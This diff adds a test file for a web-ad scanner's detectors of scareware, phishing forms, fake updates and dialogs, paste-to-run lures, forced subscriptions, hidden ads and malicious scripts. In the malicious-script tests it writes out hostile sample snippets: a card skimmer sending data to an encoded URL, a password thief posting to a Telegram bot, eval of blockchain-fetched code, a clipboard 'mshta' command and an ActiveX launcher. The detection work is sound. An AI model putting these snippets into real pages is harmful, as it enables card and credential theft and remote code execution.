@@ -1,0 +1,324 @@
+import assert from 'node:assert/strict';
+import { describe, it } from 'node:test';
+import type { CapturedBody } from '@adsweep/shared/capture/artifacts/bodies.ts';
+import type { Observation, ObservationKind, ObservationOf } from '@adsweep/shared/capture/observations/index.ts';
+import { linksOf } from '../../../src/analysis/detectors/deception/links-of.ts';
+import { matchingSignatures } from '../../../src/analysis/detectors/deception/malicious-script.ts';
+import { findPhrase } from '../../../src/analysis/detectors/deception/phrase.ts';
+import { SCRIPT_SIGNATURES } from '../../../src/analysis/detectors/deception/script-signatures.ts';
+import { readableText } from '../../../src/analysis/detectors/deception/seen-page.ts';
+import { detect } from '../../../src/analysis/detectors/detect.ts';
+import { type Evidence, NO_EVIDENCE } from '../../../src/analysis/detectors/evidence.ts';
+import { captureOf, requestOf } from '../../support/running-farm.ts';
+
+const PAGE = 'https://win.example/lp';
+type Page = { title?: string; text?: string; html?: string; url?: string };
+
+const documentOf = ({ title = '', text = '', html = '', url = PAGE }: Page) => ({
+  landing: 0,
+  frame: '',
+  url,
+  title,
+  text,
+  html,
+});
+const observed = <K extends ObservationKind>(kind: K, facts: ObservationOf<K>['facts'], url = PAGE): Observation =>
+  ({ kind, landing: 0, url, facts }) as ObservationOf<K>;
+function slugsOf(page: Page, observations: Observation[] = [], more: Partial<Evidence> = {}): string[] {
+  const { findings, failed } = detect({ ...NO_EVIDENCE, ...more, documents: [documentOf(page)], observations });
+  assert.deepEqual(failed, []);
+  return findings.map(({ tag_slug }) => tag_slug);
+}
+
+describe('§2.5.13 scareware', () => {
+  const frightening = [
+    ['Your computer has been locked.', 'Do not restart it. Call Windows support now: +1 (888) 555-0142'],
+    ['Ihr Computer wurde gesperrt!', 'Rufen Sie sofort den Microsoft-Support an: 0800 555 01 42'],
+    ['Votre ordinateur est bloqué !', "N'éteignez pas votre ordinateur."],
+    ['Su ordenador está infectado.', 'No apague el equipo. Llame al soporte técnico: 900 555 0142'],
+    ['Il tuo computer è infetto.', 'Non spegnere il computer.'],
+    ['Seu computador foi bloqueado.', 'Não desligue o computador.'],
+    ['Uw computer is geblokkeerd.', 'U kunt uw computer niet uitschakelen.'],
+    ['Twój komputer został zablokowany.', 'Nie wyłączaj komputera.'],
+    ['Ваш компьютер заблокирован.', 'Не выключайте компьютер.'],
+    ['Bilgisayarınız kilitlendi.', 'Bu pencereyi kapatmayın.'],
+    ['お使いのコンピュータはウイルスに感染しています。', 'この画面を閉じないでください。'],
+  ];
+  for (const [claim = '', pressure = ''] of frightening)
+    it(`is "${claim}" with "${pressure}", and neither alone`, () => {
+      assert.deepEqual(slugsOf({ text: `${claim}\n${pressure}` }), ['scareware']);
+      assert.deepEqual(slugsOf({ text: claim }), []);
+      assert.deepEqual(slugsOf({ text: pressure }), []);
+    });
+
+  it('is read through characters that nobody sees, and through those of full width', () => {
+    const text = 'Your com\u00adputer has be\u200ben locked.\nＤｏ ｎｏｔ ｒｅｓｔａｒｔ it.';
+    assert.deepEqual(slugsOf({ text }), ['scareware']);
+  });
+
+  it('is no question, no condition, and nothing that a maker of systems says', () => {
+    const pressure = 'Do not close this window. Scan now and remove viruses.';
+    assert.deepEqual(slugsOf({ text: `Is your computer infected?\n${pressure}` }), []);
+    assert.deepEqual(slugsOf({ text: `If your computer is infected, keep calm.\n${pressure}` }), []);
+    const url = 'https://support.microsoft.com/help';
+    assert.deepEqual(slugsOf({ text: `Your device is at risk.\n${pressure}`, url }), []);
+  });
+
+  it('is no report of an illness', () => {
+    const text = 'A virus was detected in two schools.\nCall the office now: +1 (888) 555-0142. Do not ignore this.';
+    assert.deepEqual(slugsOf({ title: 'Virus detected', text }), []);
+  });
+
+  it('is no article about it, unless that holds its visitor itself', () => {
+    const text = 'Your computer has been locked.\nDo not close this window.\nBeware of scams: a scam can be anywhere.';
+    assert.deepEqual(slugsOf({ text }), []);
+    assert.deepEqual(slugsOf({ text }, [observed('dialogs', { count: 1 })]), ['scareware']);
+  });
+});
+
+describe('§2.5.13 phishing_form', () => {
+  const login = (facts: Partial<ObservationOf<'form'>['facts']> = {}, url = PAGE) =>
+    observed('form', { fields: ['password'], action_url: 'https://win.example/next', text: 'Sign in', ...facts }, url);
+  const title = 'Sign in to your Netflix account';
+
+  it('is a form for secrets under the title of a brand, on a site that is not its own', () => {
+    assert.deepEqual(slugsOf({ title }, [login()]), ['phishing_form']);
+    assert.deepEqual(slugsOf({ title }, [login({ fields: ['phone'] })]), []);
+    for (const url of ['https://www.netflix.com/login', 'https://netflix.de/login'])
+      assert.deepEqual(slugsOf({ title, url }, [login({}, url)]), [], url);
+    assert.deepEqual(slugsOf({ title, url: 'https://netflix.login-now.example/' }, [login()]), ['phishing_form']);
+  });
+
+  it('is no shop that sells what a brand makes, and no button of another login', () => {
+    assert.deepEqual(slugsOf({ title: 'Netflix gift cards | Card Shop' }, [login()]), []);
+    assert.deepEqual(slugsOf({ title: 'Shop' }, [login({ text: 'Log in\nor sign in with your Google account' })]), []);
+    assert.deepEqual(slugsOf({ title: 'Shop' }, [login({ text: 'Log in with your Google password' })]), []);
+  });
+
+  it('is a form in the words of a brand, or with its picture', () => {
+    assert.deepEqual(slugsOf({}, [login({ text: 'Confirm your PayPal password' })]), ['phishing_form']);
+    const requests = [requestOf(1, { url: 'https://www.paypal.com/logo.svg', resource_type: 'image', landing: 0 })];
+    const form = login({ text: 'PayPal\nWelcome back' });
+    assert.deepEqual(slugsOf({}, [form], { requests }), ['phishing_form']);
+    assert.deepEqual(slugsOf({}, [form]), []);
+  });
+
+  it('is a password that is sent to where no login sends it', () => {
+    const to = (action_url: string) => slugsOf({}, [login({ action_url })]);
+    assert.deepEqual(to('https://api.telegram.org/bot1:x/sendMessage'), ['phishing_form']);
+    assert.deepEqual(to('https://login.another.example/'), []);
+  });
+});
+
+describe('§2.5.13 fake updates, dialogs and commands', () => {
+  it('fake_update is an old part of the browser and a program, not a link to its maker', () => {
+    const text = 'Your browser is out of date.';
+    const link = (href: string) => `<a class="b" href="${href}"><b>Update</b> now</a>`;
+    assert.deepEqual(slugsOf({ text, html: link('/get/Setup.exe?a=1&amp;b=2') }), ['fake_update']);
+    assert.deepEqual(slugsOf({ text, html: link('https://dl.google.com/ChromeSetup.exe') }), []);
+    assert.deepEqual(slugsOf({ text, html: link('/help/browsers') }), []);
+    assert.deepEqual(slugsOf({ text: 'A lamp.', html: link('/get/Setup.exe') }), []);
+  });
+
+  it('fake_system_dialog speaks in the name of a system or browser, on a site of others', () => {
+    const box = (text: string, buttons: string[], url = PAGE) => observed('dialog_box', { text, buttons }, url);
+    const warning = 'Windows Security\nYour PC is infected.';
+    const slugs = (...boxes: Observation[]) => slugsOf({}, boxes);
+    assert.deepEqual(slugs(box(warning, ['OK'])), ['fake_system_dialog']);
+    assert.deepEqual(slugs(box(warning, ['OK'], 'https://www.microsoft.com/')), []);
+    assert.deepEqual(slugs(box('films.example wants to\nShow notifications', ['Block', 'Allow'])), [
+      'fake_system_dialog',
+    ]);
+    assert.deepEqual(slugs(box('films.example wants to\nShow notifications', ['Later', 'Allow'])), []);
+    assert.deepEqual(slugs(box('www.films.example says\nYou have won.', ['OK'])), ['fake_system_dialog']);
+    assert.deepEqual(slugs(box('Delete the project?', ['Cancel', 'Delete'])), []);
+  });
+
+  it('paste_to_run has the visitor prove to be human by a command', () => {
+    const steps = 'Press Windows + R.\nPress Ctrl + V.\nPress Enter.';
+    assert.deepEqual(slugsOf({ text: `Verify that you are human.\n${steps}` }), ['paste_to_run']);
+    assert.deepEqual(slugsOf({ text: `How to open the editor:\n${steps}` }), []);
+    assert.deepEqual(slugsOf({ text: 'Verify that you are human.' }), []);
+  });
+});
+
+describe('§2.5.13 forced_subscription', () => {
+  const price = (facts: Partial<ObservationOf<'price'>['facts']> = {}) =>
+    observed('price', { text: '4.99 € per week', font_px: 14, contrast: 12, in_page: true, ...facts });
+
+  it('is a recurring price that cannot be read anywhere', () => {
+    assert.deepEqual(slugsOf({}, [price({ font_px: 8.9 })]), ['forced_subscription']);
+    assert.deepEqual(slugsOf({}, [price({ contrast: 1.7 })]), ['forced_subscription']);
+    assert.deepEqual(slugsOf({}, [price({ in_page: false })]), ['forced_subscription']);
+    assert.deepEqual(slugsOf({}, [price({ font_px: 9, contrast: 1.8 })]), []);
+    assert.deepEqual(slugsOf({}, [price({ font_px: 6 }), price()]), []);
+    assert.deepEqual(slugsOf({}, [price({ text: 'Postage: 4.99 €', font_px: 6 })]), []);
+  });
+
+  it('is a recurring price that was ticked, or a message to a short number without a click', () => {
+    const ticked = (label: string) => slugsOf({}, [observed('preselected', { label })]);
+    assert.deepEqual(ticked('Join the club for 9 $ a month'), ['forced_subscription']);
+    assert.deepEqual(ticked('Send me the newsletter each month'), []);
+    const to = (url: string) => slugsOf({}, [observed('auto_redirect', { to: url, after_load_ms: 0, refused: false })]);
+    assert.deepEqual(to('sms:12345?body=GO'), ['forced_subscription']);
+    assert.deepEqual(to('tel:12345'), []);
+  });
+
+  it('is a form that was sent by itself, after which the visitor has subscribed', () => {
+    const { landings } = captureOf(['https://win.example/', PAGE], {});
+    const [landing] = landings;
+    assert.ok(landing);
+    const by = (kind: 'form' | 'http') => ({
+      landings: [{ ...landing, redirect_chain: landing.redirect_chain.map((hop) => ({ ...hop, kind })) }],
+    });
+    const text = 'You are now subscribed to Games Club.';
+    assert.deepEqual(slugsOf({ text }, [], by('form')), ['forced_subscription']);
+    assert.deepEqual(slugsOf({ text }, [], by('http')), []);
+    assert.deepEqual(slugsOf({ text: 'You are now subscribed to the newsletter.' }, [], by('form')), []);
+  });
+});
+
+describe('§2.5.13 malicious_script', () => {
+  const SKIMMER = `const to = atob( 'aHR0cHM6Ly94' ); if (/checkout/.test(location)) fetch(to + cvv.value)`;
+  const bodyOf = (text: string, resource_type = 'script'): CapturedBody => {
+    return { url: 'https://cdn.example/x.js', resource_type, content_type: '', bytes: text.length, text };
+  };
+
+  it('is found in files and in documents, each with its address', () => {
+    const { findings } = detect({
+      ...NO_EVIDENCE,
+      bodies: [bodyOf(SKIMMER)],
+      documents: [documentOf({ html: `<html><script async="">${SKIMMER}</script></html>` })],
+    });
+    assert.deepEqual(
+      findings.map(({ tag_slug, url }) => [tag_slug, url]),
+      [
+        ['malicious_script', 'https://cdn.example/x.js'],
+        ['malicious_script', PAGE],
+      ],
+    );
+    assert.match(findings[0]?.detail ?? '', /skimmer/);
+  });
+
+  it('is nothing that is shown, carried as text, or lacks a part', () => {
+    const bodies = [bodyOf(SKIMMER.replace('checkout', 'elsewhere')), bodyOf(SKIMMER, 'document')];
+    for (const html of [
+      `<pre>${SKIMMER}</pre>`,
+      `<script type="application/json">${SKIMMER}</script>`,
+      `<script>self.__next_f.push("${SKIMMER}")</script>`,
+    ])
+      assert.deepEqual(slugsOf({ html }, [], { bodies }), [], html);
+  });
+});
+
+describe('§2.5.13 the signatures of malicious scripts', () => {
+  const codesOf = (text: string) => [...text].map((character) => character.charCodeAt(0)).join(',');
+  const [SCRIPT, ADDRESS] = [codesOf('script'), codesOf('https://x.example/a.js')];
+  /** By the name of its signature: a script that does it, and one that only looks so. */
+  const samples: [name: string, does: string, looksSo: string][] = [
+    [
+      'a skimmer of card numbers',
+      "const u = atob('aHR0cHM6Ly94'); if (/onepage/.test(path)) navigator.sendBeacon(u, cc_number.value)",
+      "const u = atob('aHR0cHM6Ly94'); fetch(u)",
+    ],
+    [
+      'a thief of passwords',
+      "fetch('https://api.telegram.org/bot1:a/sendMessage', { body: form.password.value })",
+      "fetch('https://api.telegram.org/bot1:a/sendMessage', { body: order.number })",
+    ],
+    [
+      'code that is fetched from a blockchain',
+      "rpc('https://bsc-testnet-rpc.publicnode.com', 'eth_call').then((x) => eval(atob(x)))",
+      "rpc('https://bsc-testnet-rpc.publicnode.com', 'eth_call').then(show)",
+    ],
+    [
+      'a command that is put into the clipboard to be run',
+      "box.value = 'mshta https://x.example/a # I am not a robot'; document.execCommand('copy')",
+      "box.value = 'powershell is a shell'; document.execCommand('copy')",
+    ],
+    [
+      'an address that is spelt by character codes',
+      `var e = document.createElement(String.fromCharCode(${SCRIPT})); e.src = String.fromCharCode(${ADDRESS})`,
+      `const API = String.fromCharCode(${ADDRESS}); const e = document.createElement('script'); e.src = API`,
+    ],
+    [
+      'a program that is started by ActiveX',
+      "new ActiveXObject('WScript.Shell').Run('cmd /c calc')",
+      "new ActiveXObject('Microsoft.XMLHTTP').open('GET', '/')",
+    ],
+  ];
+
+  it('each find what they are about, and nothing that only looks so', () => {
+    const found = (script: string) => matchingSignatures(script).map(({ name }) => name);
+    for (const [name, does, looksSo] of samples) assert.deepEqual([found(does), found(looksSo)], [[name], []], name);
+  });
+
+  it('are all tried here, and say where what they look for was published', () => {
+    assert.deepEqual(
+      SCRIPT_SIGNATURES.map(({ name }) => name),
+      samples.map(([name]) => name),
+    );
+    for (const { source } of SCRIPT_SIGNATURES) assert.match(source, /[\w-]+\.[a-z]{2,}\//);
+  });
+});
+
+describe('§2.5.14 ads that nobody sees', () => {
+  const ad = (facts: Partial<ObservationOf<'placement'>['facts']> = {}) =>
+    observed('placement', {
+      element: 'frame',
+      parent: 0,
+      ...{ x: 10, y: 10, width: 300, height: 250, opacity: 1 },
+      ...{ content_width: 300, content_height: 250, content_url: '' },
+      ...facts,
+    });
+  const slugs = (...placements: Observation[]) => slugsOf({}, placements);
+
+  it('hidden_ad is transparent or out of reach', () => {
+    assert.deepEqual(slugs(ad({ opacity: 0.049 })), ['hidden_ad']);
+    assert.deepEqual(slugs(ad({ x: -800 })), ['hidden_ad']);
+    assert.deepEqual(slugs(ad({ opacity: 0.05 }), ad({ x: 400 })), []);
+    assert.deepEqual(slugs(ad({ y: -700 })), []);
+    assert.deepEqual(slugs(ad({ opacity: 0, width: 400, height: 580 })), []);
+    assert.deepEqual(slugs(ad({ opacity: 0, content_width: 30, content_height: 30 })), []);
+  });
+
+  it('stacked_ads stand upon each other in one document', () => {
+    assert.deepEqual(slugs(ad(), ad({ x: 60 })), ['stacked_ads']);
+    assert.deepEqual(slugs(ad(), ad({ x: 80 })), []);
+    assert.deepEqual(slugs(ad(), ad({ parent: 1 })), []);
+    assert.deepEqual(slugs(ad(), ad({ opacity: 0 })), ['hidden_ad']);
+  });
+
+  it('pixel_stuffing is an ad in a point', () => {
+    assert.deepEqual(slugs(ad({ width: 1, height: 1 })), ['pixel_stuffing']);
+    assert.deepEqual(slugs(ad({ element: 'image', width: 2, height: 2 })), ['pixel_stuffing']);
+    assert.deepEqual(slugs(ad({ width: 3, height: 1 })), []);
+    assert.deepEqual(slugs(ad({ width: 1, height: 1, content_width: 40, content_height: 40 })), []);
+    assert.deepEqual(slugs(ad({ element: 'image', width: 1, height: 1, content_width: 64, content_height: 64 })), []);
+  });
+});
+
+describe('phrases and links', () => {
+  it('a phrase is within one sentence', () => {
+    const phrase = { all: [['locked'], ['your computer']], unless: ['if '] };
+    assert.equal(findPhrase('see: your computer is locked. go', phrase), 'see: your computer is locked.');
+    assert.equal(findPhrase('your computer is new. the door is locked.', phrase), null);
+    assert.equal(findPhrase('if your computer is locked', phrase), null);
+    assert.equal(findPhrase(`your computer ${'x'.repeat(200)} locked`, phrase), null);
+  });
+
+  it('a text is in one case and one width, without what is invisible', () => {
+    assert.equal(readableText('Ｙour\u00a0  PC\u200b\nIsn’t'), "your pc\nisn't");
+  });
+
+  it('links are those of a document as it is serialised', () => {
+    const html =
+      '<a data-x="1" href="/a?x=1&amp;y=2" download="">Get <b>it</b></a><button type="button">Go</button><article>';
+    assert.deepEqual(linksOf(html, PAGE), [
+      { text: 'get it', url: 'https://win.example/a?x=1&y=2', isDownload: true },
+      { text: 'go', url: '', isDownload: false },
+    ]);
+    assert.deepEqual(linksOf('<a '.repeat(200_000), PAGE), []);
+    assert.deepEqual(linksOf('<a href="http://[">x', PAGE), [{ text: 'x', url: '', isDownload: false }]);
+  });
+});
